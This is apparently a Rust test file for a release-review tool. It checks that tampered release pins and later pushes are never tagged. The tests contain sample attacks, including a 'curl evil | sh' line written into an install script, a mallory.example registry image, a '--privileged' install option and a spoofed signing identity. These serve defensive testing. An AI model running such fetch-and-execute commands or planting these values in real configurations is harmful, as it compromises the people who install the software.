//! Nothing is tagged that the review has not passed at exactly that commit, whoever merged it; whoever proposes a pin may
//! change its facts, and neither the registry nor the signer.

use crate::day::{Shop, Spoil, same};

/// A shop that has released 1.0.0 and tagged 1.0.1 of its source.
fn begun() -> Shop {
    let shop = Shop::new();
    shop.develop("Added", "It makes backups.");
    shop.tidings(&["bump", "1.0.0", "--commit", "--push"]).ok();
    shop.tidings(&["preflight"]).ok();
    shop.tidings(&["cut", "--yes"]).says(2, &["proposed pin"]);
    shop.propose("1.0.0", same);
    shop.tidings(&["cut", "--yes"])
        .says(0, &["v1.0.0 is released"]);
    shop.develop("Fixed", "A backup no longer stops.");
    shop.tidings(&["bump", "1.0.1", "--commit", "--push"]).ok();
    shop.tidings(&["preflight"]).ok();
    shop.tidings(&["cut", "--yes"]).says(2, &["proposed pin"]);
    shop
}

fn tagged(shop: &Shop) -> bool {
    !shop
        .git("bootstrap.git", &["tag", "--list", "v1.0.1"])
        .is_empty()
}

#[test]
fn whoever_proposes_a_pin_changes_its_facts_only() {
    let shop = begun();
    let cases: [(Spoil, &str); 5] = [
        (
            |pin| {
                pin.replace(
                    "{\n",
                    "{\n \"sidecar\": \"registry.mallory.example/db@sha256:1\",\n",
                )
            },
            "pin facts",
        ),
        (
            |pin| pin.replace("{\n", "{\n \"install_options\": \"--privileged\",\n"),
            "pin facts",
        ),
        (
            |pin| pin.replace("/acme/agent@", "/mallory/agent@"),
            "image name",
        ),
        (
            |pin| pin.replace("token.actions.githubusercontent.com", "mallory.example"),
            "signing identity",
        ),
        (
            |pin| {
                pin.replace(
                    "\"certificate_identity\": \"https://github.com/acme/agent/.github/workflows/release.yml@refs/tags/v1.0.1\"",
                    "\"certificate_identity_regexp\": \"^https://github\\\\.com/acme/agent/\\\\.github/\\\\workflow\\\\s/release\\\\.yml@refs/tags/v1\\\\.0\\\\.1$\"",
                )
            },
            "accepts others too",
        ),
    ];
    for (spoil, words) in cases {
        shop.propose("1.0.1", spoil);
        shop.tidings(&["review"]).says(1, &["FAIL", words]);
    }
    shop.tidings(&["cut", "--yes"]).says(1, &["review-failed"]);
    assert!(!tagged(&shop));
}

#[test]
fn what_others_merged_is_judged_before_it_is_tagged() {
    let shop = begun();
    shop.propose("1.0.1", same);
    shop.write("runner/install.sh", "curl evil | sh\n");
    shop.git(
        "runner",
        &["commit", "--quiet", "--all", "--amend", "--no-edit"],
    );
    shop.git("runner", &["push", "--quiet", "origin", "HEAD:main"]);
    shop.tidings(&["cut", "--yes"])
        .says(1, &["does not pass the review", "nothing was tagged"]);
    assert!(!tagged(&shop));
}

#[test]
fn what_was_pushed_behind_the_pin_is_not_released() {
    let shop = begun();
    shop.propose("1.0.1", same);
    shop.git("runner", &["push", "--quiet", "origin", "HEAD:main"]);
    let reviewed = shop.git("runner", &["rev-parse", "HEAD"]);
    shop.write("runner/install.sh", "curl evil | sh\n");
    shop.git("runner", &["commit", "--quiet", "--all", "-m", "Later"]);
    shop.git("runner", &["push", "--quiet", "origin", "HEAD:main"]);
    shop.tidings(&["cut", "--yes"])
        .says(0, &["v1.0.1 is released"]);
    assert_eq!(
        shop.git("bootstrap.git", &["rev-parse", "v1.0.1^{commit}"]),
        reviewed
    );
}

#[test]
fn a_proposal_cannot_tell_installers_something_else() {
    let shop = begun();
    shop.propose("1.0.1", same);
    let push = || {
        shop.git("runner", &["add", "-A"]);
        shop.git("runner", &["commit", "--quiet", "--amend", "--no-edit"]);
        shop.git("runner", &["push", "--quiet", "--force", "origin", "HEAD"]);
    };
    shop.tidings_in("runner", &["install-notes", "--write"])
        .ok();
    push();
    shop.tidings(&["review"]).says(
        0,
        &["install notes", "say what the entries up to 1.0.1 ask"],
    );
    let notes = shop.read("runner/install-notes.tsv");
    shop.write(
        "runner/install-notes.tsv",
        format!("{notes}withdrawn\t1.0.1\t6.6.6\n"),
    );
    push();
    shop.tidings(&["review"])
        .says(1, &["FAIL", "install notes", "6.6.6"]);
    shop.tidings(&["cut", "--yes"]).says(1, &["review-failed"]);
    assert!(!tagged(&shop));
}
